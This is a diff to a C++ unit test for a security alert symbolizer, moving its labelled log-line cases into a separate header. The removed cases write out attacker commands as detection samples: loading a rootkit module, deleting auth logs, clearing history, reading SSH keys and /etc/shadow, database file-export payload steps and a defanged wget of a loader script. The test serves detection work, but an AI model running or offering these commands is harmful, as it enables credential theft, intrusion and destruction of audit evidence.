@@ -3,11 +3,10 @@
 
 #include <gtest/gtest.h>
 
-#include <ostream>
-
 #include "alerts/sanitizer.hpp"
 #include "alerts/symbolizer.hpp"
 #include "alerts/taxonomy.hpp"
+#include "symbolizer_cases.hpp"
 
 namespace at::alerts {
 namespace {
@@ -137,16 +136,6 @@ TEST(SymbolizerTest, PaperWgetExample) {
   EXPECT_EQ(result->alert.ts, 23 * util::kHour + 15 * util::kMinute + 22);
 }
 
-struct SymbolCase {
-  const char* line;
-  AlertType expected;
-};
-
-// Prints the expected symbol: the default printer dumps the case's raw bytes,
-// pointer included, and that dump names the test, so the name would change
-// from run to run.
-void PrintTo(const SymbolCase& c, std::ostream* os) { *os << symbol(c.expected); }
-
 class SymbolizerPatterns : public ::testing::TestWithParam<SymbolCase> {};
 
 TEST_P(SymbolizerPatterns, MapsToExpectedType) {
@@ -156,23 +145,7 @@ TEST_P(SymbolizerPatterns, MapsToExpectedType) {
   EXPECT_EQ(result->alert.type, GetParam().expected) << GetParam().line;
 }
 
-INSTANTIATE_TEST_SUITE_P(
-    KnownPatterns, SymbolizerPatterns,
-    ::testing::Values(
-        SymbolCase{"12:00:00 [h] insmod rootkit.ko", AlertType::kInstallKernelModule},
-        SymbolCase{"12:00:01 [h] gcc -o mod abs.c", AlertType::kCompileSource},
-        SymbolCase{"12:00:02 [h] rm -f /var/log/auth.log", AlertType::kLogTampering},
-        SymbolCase{"12:00:03 [h] history -c", AlertType::kHistoryCleared},
-        SymbolCase{"12:00:04 [h] SHOW server_version_num", AlertType::kVersionRecon},
-        SymbolCase{"12:00:05 [h] lowrite(0, '7F454C46...')", AlertType::kDbPayloadEncoding},
-        SymbolCase{"12:00:06 [h] select lo_export(16385, '/tmp/kp')", AlertType::kDbFileExport},
-        SymbolCase{"12:00:07 [h] cat ~/.ssh/id_rsa", AlertType::kSshKeyTheft},
-        SymbolCase{"12:00:08 [h] cat ~/.ssh/known_hosts", AlertType::kKnownHostsEnumeration},
-        SymbolCase{"12:00:09 [h] nmap -p- 141.142.0.0/16", AlertType::kPortScan},
-        SymbolCase{"12:00:10 [h] cat /etc/shadow", AlertType::kCredentialDump},
-        SymbolCase{"12:00:11 [h] wget hXXp://194.145.xxx.yyy/ldr.sh?e7945e",
-                   AlertType::kDownloadSensitive},
-        SymbolCase{"12:00:12 [h] sbatch job.sl", AlertType::kJobSubmitted}));
+INSTANTIATE_TEST_SUITE_P(KnownPatterns, SymbolizerPatterns, ::testing::ValuesIn(kSymbolCases));
 
 TEST(SymbolizerTest, UnknownLinesReturnNothing) {
   Symbolizer symbolizer;
